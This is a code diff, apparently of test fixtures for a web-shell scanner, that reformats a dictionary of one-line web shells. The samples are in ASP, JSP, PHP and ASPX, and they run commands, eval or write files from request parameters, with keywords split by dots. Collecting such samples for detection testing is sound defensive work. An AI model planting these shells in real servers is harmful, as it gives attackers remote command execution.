@@ -108,7 +108,8 @@ function checked(value)
     Re.pattern = "^\\S+$"
     if Re.test(value) then checked = value else Err.raise 5
 end function
-ex·ecuteGlobal join(array("dim c : set c = new [" & checked(Session("controller")) & "Controller]", "call c.run()"), vbNewLine)
+ex·ecuteGlobal join( _
+    array("dim c : set c = new [" & checked(Session("name")) & "Controller]", "call c.run()"), vbNewLine)
 %>
 """
 VARIABLE = """<%
@@ -176,13 +177,16 @@ LOUD = {
     "e.asp": '<% Set w = Server.CreateObject("WSc·ript.Sh·ell"): w.Run "c·md /c " & Req·uest("q"), 0 %>',
     "f.jsp": '<% Runtime.getRun·time().ex·ec(request.getPara·meter("q")); %>',
     "g.php": "<?php @ev·al($_PO·ST['q']);",
-    "i.asp": "<script runat=server language=jscript>var t = {'E': ev·al}; t.E(String(Req·uest.Form('z')));</script>",
-    "j.aspx": "<%@ Page Language='C#' %><% var x = new XmlDocument(); x.LoadXml(\"<xsl:stylesheet xmlns:m='urn:schemas-"
-    "microsoft-com:xs·lt'><msx·sl:script language='JScript'>function f(){var r = new ActiveXObject('WSc·ript.Shell')"
-    ".Ex·ec('c·md /c ' + Req·uest.Item['c']);}</msx·sl:script></xsl:stylesheet>\"); var t = new XslCompiledTransform(); "
+    "i.asp": "<script runat=server language=jscript>"
+    "var t = {'E': ev·al}; t.E(String(Req·uest.Form('z')));</script>",
+    "j.aspx": "<%@ Page Language='C#' %><% var x = new XmlDocument(); "
+    "x.LoadXml(\"<xsl:stylesheet xmlns:m='urn:schemas-microsoft-com:xs·lt'><msx·sl:script language='JScript'>"
+    "function f(){var r = new ActiveXObject('WSc·ript.Shell')"
+    ".Ex·ec('c·md /c ' + Req·uest.Item['c']);}</msx·sl:script></xsl:stylesheet>\"); "
+    "var t = new XslCompiledTransform(); "
     "t.Load(x, XsltSettings.TrustedXslt, null); t.Transform(y, null, z); %>",
-    "k.asp": "<% Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.CreateTextFile(Server.MapPath("
-    "\"up.asp\"))\nt.Write(req·uest(\"q\"))\n%>",
+    "k.asp": '<% Set f = Server.CreateObject("Scripting.FileSystemObject")\n'
+    'Set t = f.CreateTextFile(Server.MapPath("up.asp"))\nt.Write(req·uest("q"))\n%>',
     "h.php": "<?php $f = base64_dec·ode('c3lzdGVt'); $f($_RE·QUEST['q']);",
 }
 
